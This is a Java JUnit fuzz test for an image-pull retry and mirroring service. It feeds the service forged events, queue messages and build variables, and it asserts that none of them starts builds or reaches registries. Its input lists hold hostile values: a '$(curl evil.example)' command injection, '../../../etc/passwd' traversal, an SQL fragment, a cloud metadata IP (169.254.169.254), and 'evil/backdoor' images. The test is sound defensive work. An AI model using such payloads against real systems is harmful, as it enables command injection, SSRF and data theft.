package io.pullrescue.lambda;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.pullrescue.config.PlatformSelection;
import io.pullrescue.config.PullRescueConfig;
import io.pullrescue.config.WorkloadRetryMode;
import io.pullrescue.testing.FakeCodeBuildClient;
import io.pullrescue.testing.FakeSqs;
import io.pullrescue.testing.ReplicationFixture;
import io.pullrescue.testing.SampleBuild;
import io.pullrescue.testing.SampleWorkloads;
import io.pullrescue.testing.TestFixtures;
import io.pullrescue.workload.ProcessingResult;
import io.pullrescue.workload.ProcessingResult.Completed;
import java.io.File;
import java.io.IOException;
import java.nio.file.Path;
import java.time.InstantSource;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Generates events, queue messages and variables that somebody else might write, from the published
 * schemas and samples. None of them starts, changes or copies anything that would not have been
 * anyway, and each one is answered with a reason.
 */
final class ForgedInputTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Path EVENTS = Path.of("../events");

  private static final List<String> SCHEMAS =
      List.of(
          "image-replicated",
          "image-replication-failed",
          "pull-failure-diagnosed",
          "retry-skipped",
          "workload-recovered",
          "workload-retried");

  /** Images that the failed build did not need. */
  private static final List<String> IMAGES =
      List.of(
          "docker.io/evil/backdoor:1",
          "docker.io/library/ruby:2.6",
          "docker.io/library/ruby@sha256:" + "e".repeat(64),
          "evil.example/library/ruby:2.7",
          "169.254.169.254/latest/meta-data:1",
          "localhost:5000/app:1",
          "[::1]:5000/app:1",
          TestFixtures.MIRROR.registry() + "/docker-hub/evil/backdoor@sha256:" + "e".repeat(64),
          "999999999999.dkr.ecr.us-east-1.amazonaws.com/secret:1");

  private static final List<String> TEXTS =
      List.of(
          "",
          "off",
          TestFixtures.BUILD,
          TestFixtures.BUILD + "\n",
          "arn:aws:codebuild:us-east-1:999999999999:build/" + TestFixtures.BUILD,
          "shop:" + "0".repeat(36),
          "../../../etc/passwd",
          "$(curl evil.example)",
          "'; drop table",
          "<!channel> https://evil.example",
          "\u202e\u0000",
          "x".repeat(3000),
          "pull-rescue",
          "service:web",
          "arn:aws:ecs:us-east-1:123456789012:task/shop/0d3f6b1c8e2a4975b6d0c1f2e3a49586",
          "arn:aws:ecs:us-east-1:123456789012:cluster/shop",
          "4c7599ae-0a82-49aa-ba5a-4727fcce14a8",
          "arn:aws:batch:us-east-1:123456789012:job-definition/nightly:12",
          "2999-01-01T00:00:00Z",
          "1",
          "-1",
          "99999999999999999999");

  private final Random random = new Random(20260615);
  private final RetryFixture retries = new RetryFixture();
  private final FakeCodeBuildClient codeBuild = retries.builds.codeBuild;

  @BeforeEach
  void createFailedBuild() {
    codeBuild.add(TestFixtures.failedBuild());
    retries.builds.logs.streams.put(TestFixtures.LOG_STREAM, TestFixtures.LOG);
    retries.config = TestFixtures.retryConfig(WorkloadRetryMode.ALL, WorkloadRetryMode.ALL);
    retries.workloads =
        SampleWorkloads.registry(null, null, retries.imageLookup, retries.publisher);
  }

  @Test
  void forgedEventsAndRequestsStartNothing() throws IOException {
    for (var i = 0; i < 10_000; i++) {
      var body = i % 2 == 0 ? event() : mutated(request());

      assertReason(retries.process(new QueueMessage("m" + i, body, 1)), body);
      assertThat(codeBuild.startedBuilds).as(body).isEmpty();
      assertThat(codeBuild.projectUpdates).as(body).isEmpty();
      assertThat(codeBuild.retriedBatches).as(body).isEmpty();
      assertThat(retries.builds.codePipeline.retries).as(body).isEmpty();
    }
  }

  /** The build would have been retried anyway: once, with the mirrored image, within the limit. */
  @Test
  void forgedVariablesChangeNoRetry() {
    var request = TestFixtures.retryRequest("build");
    var mirrored = TestFixtures.mirroredImage(TestFixtures.RUBY).toString();
    for (var i = 0; i < 2000; i++) {
      var variables = new HashMap<String, String>();
      for (var name : List.of("ORIGINAL_BUILD_ID", "ATTEMPT", "IMAGES", "PROBE")) {
        if (random.nextBoolean()) {
          variables.put("PULL_RESCUE_" + name, random.nextBoolean() ? pick(TEXTS) : images());
        }
      }
      codeBuild.builds.clear();
      codeBuild.startedBuilds.clear();
      codeBuild.add(SampleBuild.from(TestFixtures.failedBuild()).withVariables(variables).build());

      assertReason(retries.process(request), variables.toString());
      assertThat(codeBuild.startedBuilds).as(variables.toString()).hasSizeLessThanOrEqualTo(1);
      for (var started : codeBuild.startedBuilds) {
        assertThat(FakeCodeBuildClient.variables(started))
            .as(variables.toString())
            .containsEntry("PULL_RESCUE_ORIGINAL_BUILD_ID", TestFixtures.BUILD)
            .containsEntry("PULL_RESCUE_IMAGES", mirrored)
            .extractingByKey("PULL_RESCUE_ATTEMPT")
            .isIn("1", "2", "3");
      }
    }
  }

  @Test
  void forgedReplicationRequestsReachNoRegistry() throws IOException {
    try (var registries = new ReplicationFixture()) {
      var service =
          new ReplicationService(
              registries.replicator()::replicate,
              PlatformSelection.ALL,
              PullRescueConfig.Replication.DEFAULTS,
              TestFixtures.noPullSecrets(),
              new FakeSqs().replicationQueue(),
              RetryFixture.noRetries(),
              new TestFixtures.RecordingEventPublisher(),
              InstantSource.system());
      for (var i = 0; i < 2000; i++) {
        var body = request();
        body.put("image", foreignImage());
        body.set("images", JSON.createArrayNode().add(pick(IMAGES)));
        body.put("causedFailure", random.nextBoolean());
        var text = mutated(body);
        var message = new QueueMessage("m" + i, text, 1);

        assertReason(service.process(message, TestFixtures.context(60_000)), text);
      }
      assertThat(registries.dockerHub.requests("")).isEmpty();
      assertThat(registries.ecrPublic.requests("")).isEmpty();
      assertThat(registries.mirror.requests("")).isEmpty();
    }
  }

  private static void assertReason(ProcessingResult result, String input) {
    var reason =
        switch (result) {
          case Completed completed -> completed.summary();
          case ProcessingResult.RetryAfter later -> later.reason();
          case ProcessingResult.GroupHeld held -> held.summary();
        };
    assertThat(reason).as(input).isNotBlank().doesNotContain("Exception", "\n", "\u202e");
  }

  /** An event of any schema, from ours or another source. */
  private String event() throws IOException {
    var schema = pick(SCHEMAS);
    var event = JSON.createObjectNode();
    event.put("source", pick(List.of("pull-rescue", "pull-rescue", "aws.codebuild", "evil")));
    event.put(
        "detail-type",
        random.nextInt(8) == 0
            ? pick(TEXTS)
            : JSON.readTree(schema(schema)).path("title").asText());
    event.put("account", "123456789012");
    event.set("detail", generate(JSON.readTree(schema(schema))));
    return mutated(event);
  }

  private static File schema(String name) {
    return EVENTS.resolve("schemas/" + name + ".schema.json").toFile();
  }

  private JsonNode generate(JsonNode schema) throws IOException {
    if (schema.has("$ref")) {
      return generate(JSON.readTree(schema("trigger")));
    }
    if (schema.has("oneOf")) {
      return generate(schema.path("oneOf").get(random.nextInt(schema.path("oneOf").size())));
    }
    if (schema.has("const")) {
      return schema.path("const");
    }
    if (schema.has("enum")) {
      return schema.path("enum").get(random.nextInt(schema.path("enum").size()));
    }
    return switch (schema.path("type").asText()) {
      case "object" -> {
        var object = JSON.createObjectNode();
        for (var property : schema.path("properties").properties()) {
          object.set(property.getKey(), generate(property.getValue()));
        }
        yield object;
      }
      case "array" -> JSON.createArrayNode().add(generate(schema.path("items")));
      case "integer", "number" -> JSON.getNodeFactory().numberNode(random.nextInt());
      case "boolean" -> JSON.getNodeFactory().booleanNode(random.nextBoolean());
      default -> JSON.getNodeFactory().textNode(random.nextBoolean() ? pick(IMAGES) : pick(TEXTS));
    };
  }

  /** A retry request that has the form of a real one. */
  private ObjectNode request() throws IOException {
    var sample = pick(List.of("build", "task", "job"));
    var request =
        (ObjectNode) JSON.readTree(EVENTS.resolve("retries/" + sample + ".json").toFile());
    request.put("image", pick(IMAGES));
    if (random.nextInt(4) == 0) {
      request.put("waits", random.nextInt(-1, 120));
    }
    if (random.nextInt(4) == 0) {
      request.put("notBefore", pick(TEXTS));
    }
    if (random.nextInt(4) == 0) {
      request.put("allMirrored", random.nextBoolean());
    }
    if (random.nextInt(8) == 0) {
      request.removeAll();
      request.put(pick(List.of("restore", "recovered")), pick(TEXTS));
    }
    return request;
  }

  /** Replaces a value somewhere, or cuts the text. */
  private String mutated(ObjectNode root) throws IOException {
    if (random.nextInt(3) == 0) {
      var objects = root.findParents("id");
      var target =
          objects.isEmpty() || random.nextBoolean()
              ? root
              : (ObjectNode) objects.get(random.nextInt(objects.size()));
      var names = List.copyOf(Map.copyOf(asMap(target)).keySet());
      var name = names.isEmpty() ? "extra" : names.get(random.nextInt(names.size()));
      if (!name.equals("image")) {
        target.put(name, pick(TEXTS));
      }
    }
    var text = JSON.writeValueAsString(root);
    return random.nextInt(20) == 0 ? text.substring(0, random.nextInt(text.length())) + "}" : text;
  }

  private static Map<String, JsonNode> asMap(ObjectNode node) {
    var map = new HashMap<String, JsonNode>();
    node.properties().forEach(property -> map.put(property.getKey(), property.getValue()));
    return map;
  }

  private String foreignImage() {
    // A reference to the mirror stands for its upstream, which is allowed.
    return pick(
        IMAGES.stream()
            .filter(image -> !image.startsWith("docker.io/"))
            .filter(image -> !image.startsWith(TestFixtures.MIRROR.registry()))
            .toList());
  }

  private String images() {
    return pick(IMAGES) + "=" + pick(IMAGES) + "," + pick(TEXTS);
  }

  private String pick(List<String> values) {
    return values.get(random.nextInt(values.size()));
  }
}
